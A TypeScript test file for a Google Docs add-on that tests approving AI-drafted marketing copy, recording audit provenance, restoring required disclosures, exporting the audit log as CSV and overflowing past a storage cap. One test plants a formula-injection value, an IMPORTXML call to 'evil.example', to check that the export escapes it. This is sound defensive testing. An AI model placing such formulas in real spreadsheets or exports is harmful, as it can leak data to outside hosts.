import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/src/csv';
import { readStoredJson, writeStoredJson } from '../../apps-script/src/server/stored-json';
import { draftFromBrief } from '../../docs-addon/src/server/draft';
import { approveMark, publicMarks, readMarks } from '../../docs-addon/src/server/marks';
import { auditLog } from '../../docs-addon/src/server/audit-log';
import { auditColumns } from '../../shared/src/governance';
import { sha256 } from '../../shared/src/hash';
import type { FakeParagraph } from '../../preview/src/apps-script/fake-document';
import { installDocs, useExampleKit } from './install';

const brief = JSON.parse(readFileSync(join(import.meta.dirname, '../../examples/briefs/ledgerline-launch.json'), 'utf8'));

function drafted() {
  const env = installDocs(['My intro.']);
  useExampleKit(env);
  const marks = draftFromBrief(brief).marks;
  return { env, marks };
}

const markedParagraphs = (env: ReturnType<typeof installDocs>, name: string) =>
  env.document.namedRanges.find((r) => r.name === name)!.range.elements.map((e) => e.element as FakeParagraph);

describe('approving AI text', () => {
  it('clears the highlight and the named range, and keeps the text', () => {
    const { env, marks } = drafted();
    const email = marks.find((m) => m.label === 'Email')!;
    const paragraphs = markedParagraphs(env, `onbrand.ai.${email.id}`);
    const before = paragraphs.map((p) => p.snapshotText());
    const result = approveMark(email.id);
    expect(result.message).toBe('Approved “Email”.');
    expect(paragraphs.map((p) => p.snapshotText())).toEqual(before);
    expect(paragraphs.every((p) => p.text.attrs.every((a) => a.BACKGROUND_COLOR === null))).toBe(true);
    expect(env.document.namedRanges.map((r) => r.name)).not.toContain(`onbrand.ai.${email.id}`);
    expect(readMarks().map((m) => m.id)).not.toContain(email.id);
  });

  it('shows on the review card the findings count and brand fit the audit log then records, for every piece', () => {
    const { env, marks } = drafted();
    // The writer edits one piece after drafting: the card follows the text, as approval will.
    const article = marks.find((m) => m.label === 'Article')!;
    markedParagraphs(env, `onbrand.ai.${article.id}`).at(-1)!.text.chars += ' We really utilize the whitelist.';
    const cards = publicMarks();
    expect(cards.length).toBeGreaterThan(3);
    // The approval record's detail reads "fit S; [approved with …;] severity: match (rule); …".
    const figures = (detail: string) => {
      const parts = detail.split('; ');
      return { score: Number(parts[0]!.replace('fit ', '')), findings: parts.filter((part) => /^(error|warning|suggestion): /.test(part)).length };
    };
    for (const card of cards) {
      const entry = approveMark(card.id, true).approved!;
      expect({ label: card.label, ...figures(entry.detail) }).toEqual({ label: card.label, findings: card.findings, score: card.score });
    }
    // The cards the draft answered with are figured the same way as the draft's "generated" records.
    const social = marks.find((m) => m.label === 'Social post')!;
    const generated = auditLog().records.find((r) => r.action === 'generated' && r.subject === 'Social post')!;
    expect(generated.detail).toContain(`${social.findings} finding(s), fit ${social.score}`);
  });

  it('writes who, when, template and version, provider, model and the findings at approval', () => {
    const { env, marks } = drafted();
    const article = marks.find((m) => m.label === 'Article')!;
    // The writer edits the draft before approving; the audit records the text as approved.
    const paragraphs = markedParagraphs(env, `onbrand.ai.${article.id}`);
    paragraphs[1]!.appendText(' It is the best tool, guaranteed.');
    const { approved } = approveMark(article.id);
    const text = paragraphs.map((p) => p.snapshotText()).join('\n');
    expect(approved).toMatchObject({
      surface: 'docs',
      action: 'approved',
      file: 'Campaign draft',
      subject: 'Article',
      who: 'maya@example.com',
      templateId: 'content-pack',
      templateVersion: article.templateVersion,
      provider: 'offline',
      model: 'onbrand-offline-1',
      kitName: 'Ledgerline',
      textHash: sha256(text),
    });
    expect(Date.parse(approved!.when)).not.toBeNaN();
    expect(approved!.detail).toContain('guaranteed');
    expect(auditLog().records.filter((r) => r.action === 'approved')).toEqual([approved]);
    // Drafting recorded each piece as generated, with the same provenance.
    expect(auditLog().records.filter((r) => r.action === 'generated').map((r) => r.subject)).toEqual(marks.map((m) => m.label));
  });

  it('puts back a removed disclosure the channel requires before approving', () => {
    const { env, marks } = drafted();
    const social = marks.find((m) => m.label === 'Social post')!;
    const paragraphs = markedParagraphs(env, `onbrand.ai.${social.id}`);
    for (const p of paragraphs) p.text.chars = p.text.chars.replace(` ${social.disclosure}`, '');
    approveMark(social.id);
    expect(paragraphs[paragraphs.length - 1]!.snapshotText().endsWith(social.disclosure!)).toBe(true);
  });

  it('exports the audit log as CSV, one row per approval', () => {
    const { marks } = drafted();
    approveMark(marks[0]!.id);
    approveMark(marks[2]!.id);
    const rows = parseCsv(auditLog().csv);
    expect(rows.ok).toBe(true);
    if (!rows.ok) return;
    expect(rows.value[0]).toEqual([...auditColumns]);
    const approvedRows = rows.value.slice(1).filter((r) => r[4] === 'approved');
    expect(approvedRows.map((r) => r[5])).toEqual(['Article', 'Subject lines']);
    expect(JSON.parse(auditLog().json).filter((r: { action: string }) => r.action === 'approved').map((r: { subject: string }) => r.subject)).toEqual(['Article', 'Subject lines']);
  });

  it('writes audit cells that look like formulas as text', () => {
    const { env, marks } = drafted();
    const { approved } = approveMark(marks[0]!.id);
    writeStoredJson(env.properties.document as never, 'onbrand.audit', [{ ...approved!, who: '=IMPORTXML("http://evil.example","//a")', subject: '@cmd' }]);
    const rows = parseCsv(auditLog().csv);
    if (!rows.ok) throw new Error('the audit CSV is not CSV');
    expect([rows.value[1]![1], rows.value[1]![5]]).toEqual(['\'=IMPORTXML("http://evil.example","//a")', "'@cmd"]);
  });

  it('refuses to approve what is not waiting, changing nothing', () => {
    const { env } = drafted();
    const before = JSON.stringify(env.document.snapshot());
    expect(approveMark('nope')).toEqual({ approved: null, message: 'That draft is no longer waiting for approval.', open: [] });
    expect(approveMark('')).toEqual({ approved: null, message: 'Pick a draft to approve.', open: [] });
    expect(JSON.stringify(env.document.snapshot())).toBe(before);
    expect(auditLog().records.filter((r) => r.action !== 'generated')).toEqual([]);
  });
});

describe('approving with error-level findings open', () => {
  it('shows them and changes nothing until the approver confirms, then logs that they were open', () => {
    const { env, marks } = drafted();
    const email = marks.find((m) => m.label === 'Email')!;
    // The writer adds a banned term (an error) before approving.
    markedParagraphs(env, `onbrand.ai.${email.id}`)[1]!.appendText(' Add them to the whitelist.');
    const before = JSON.stringify(env.document.snapshot());
    const first = approveMark(email.id);
    expect(first.approved).toBeNull();
    expect(first.open.map((f) => f.match)).toContain('whitelist');
    expect(first.message).toMatch(/open error/);
    expect(JSON.stringify(env.document.snapshot())).toBe(before);
    expect(readMarks().map((m) => m.id)).toContain(email.id);
    const confirmed = approveMark(email.id, true);
    expect(confirmed.approved?.detail).toContain(`approved with ${first.open.length} open error(s)`);
    expect(auditLog().records.at(-1)).toEqual(confirmed.approved);
    expect(readMarks().map((m) => m.id)).not.toContain(email.id);
  });

  it('approves in one step when no error is open', () => {
    const { marks } = drafted();
    const subject = marks.find((m) => m.label === 'Subject lines')!;
    const result = approveMark(subject.id);
    expect(result.open).toEqual([]);
    expect(result.approved?.detail).not.toContain('open error');
  });
});

describe('the audit log past its cap', () => {
  const pastEntry = (i: number) => ({
    markId: `old-${i}`,
    label: `Piece ${i}`,
    approvedBy: 'omar@example.com',
    approvedAt: new Date(Date.UTC(2026, 0, 1, 0, i)).toISOString(),
    template: 'content-pack',
    templateVersion: '1.0.0',
    provider: 'offline',
    model: 'onbrand-offline-1',
    channel: null,
    score: 90,
    findings: [{ rule: 'banned', severity: 'warn', match: 'synergy', message: `Avoid “synergy” (entry ${i}).`.repeat(4) }],
  });

  it('moves the oldest entries into the document, says so, and keeps every entry in the CSV', () => {
    const { env, marks } = drafted();
    const past = Array.from({ length: 400 }, (_, i) => pastEntry(i));
    writeStoredJson(env.properties.document as never, 'onbrand.audit', past);
    const result = approveMark(marks.find((m) => m.label === 'Email')!.id);
    expect(result.message).toMatch(/^Approved “Email”\. The \d+ oldest audit records moved to the “Onbrand audit log” section at the end of the document; the exports still have them all\.$/);
    const stored = readStoredJson(env.properties.document as never, 'onbrand.audit') as unknown[];
    expect(JSON.stringify(stored).length).toBeLessThanOrEqual(64 * 1024);
    expect(stored.at(-1)).toEqual(result.approved);
    const texts = env.document.body.snapshotParagraphs().map((p) => p.snapshotText());
    expect(texts).toContain('Onbrand audit log');
    const labels = () => {
      const csv = parseCsv(auditLog().csv);
      if (!csv.ok) throw new Error('the audit CSV does not parse');
      return csv.value.slice(1).map((row) => row[5]);
    };
    expect(labels()).toEqual([...past.map((entry) => entry.label), 'Email']);

    // Again, past the cap a second time: the newer batch goes below the first, in order.
    const more = Array.from({ length: 400 }, (_, i) => pastEntry(1000 + i));
    writeStoredJson(env.properties.document as never, 'onbrand.audit', [...(readStoredJson(env.properties.document as never, 'onbrand.audit') as unknown[]), ...more]);
    approveMark(marks.find((m) => m.label === 'Article')!.id);
    expect(labels()).toEqual([...past.map((entry) => entry.label), 'Email', ...more.map((entry) => entry.label), 'Article']);
    expect(env.document.body.children.filter((child) => child.type === 'TABLE')).toHaveLength(2);
  });
});
